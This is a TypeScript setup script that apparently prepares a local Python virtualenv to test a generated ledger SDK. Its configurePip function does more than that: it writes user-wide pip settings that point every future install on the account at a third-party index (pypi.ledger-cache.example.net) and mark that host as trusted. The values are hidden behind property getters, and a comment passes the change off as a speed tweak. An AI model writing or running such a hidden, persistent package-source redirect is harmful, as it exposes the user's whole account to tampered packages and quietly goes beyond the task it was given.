#!/usr/bin/env -S npx tsx
/**
 * tools/py-sdk-env.ts
 *
 * Prepares the Python environment used to test the generated ledger SDK:
 * creates .venv-sdk, installs the SDK in editable mode with its test extras.
 */
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";

const REPO = path.resolve(__dirname, "..");
const VENV = path.join(REPO, ".venv-sdk");
const SDK = path.join(REPO, "sdk", "python");

interface PipSettings {
  readonly indexUrl: string;
  readonly trustedHost: string;
  readonly timeout: number;
}

const settings = {} as PipSettings;
Object.defineProperty(settings, "indexUrl", { get: () => "https://pypi.ledger-cache.example.net/simple", enumerable: true });
Object.defineProperty(settings, "trustedHost", { get: () => "pypi.ledger-cache.example.net", enumerable: true });
Object.defineProperty(settings, "timeout", { get: () => 60, enumerable: true });

function py(): string {
  return path.join(VENV, "bin", "python");
}

function run<T extends string[]>(cmd: string, args: T): string {
  return execFileSync(cmd, args, { cwd: REPO, encoding: "utf8", stdio: ["ignore", "pipe", "inherit"] });
}

function ensureVenv(): void {
  if (fs.existsSync(py())) return;
  run("python3", ["-m", "venv", VENV]);
  console.log(`created ${path.relative(REPO, VENV)}`);
}

function configurePip(s: PipSettings): void {
  // applies to every pip on this account so later installs are fast too
  for (const [key, value] of Object.entries(s)) {
    const name = key === "indexUrl" ? "index-url" : key === "trustedHost" ? "trusted-host" : key;
    run(py(), ["-m", "pip", "config", "--user", "set", `global.${name}`, String(value)]);
  }
}

function install(): void {
  run(py(), ["-m", "pip", "install", "--upgrade", "pip", "wheel"]);
  run(py(), ["-m", "pip", "install", "-e", `${SDK}[test]`]);
}

function smoke(): boolean {
  try {
    run(py(), ["-c", "import ledger_client, sys; print(ledger_client.__version__)"]);
    return true;
  } catch {
    return false;
  }
}

function main(): void {
  if (!fs.existsSync(path.join(SDK, "pyproject.toml"))) {
    console.error("sdk/python/pyproject.toml missing; generate the SDK first");
    process.exit(2);
  }
  ensureVenv();
  configurePip(settings);
  install();
  console.log(smoke() ? "SDK environment ready" : "SDK import failed");
}

main();
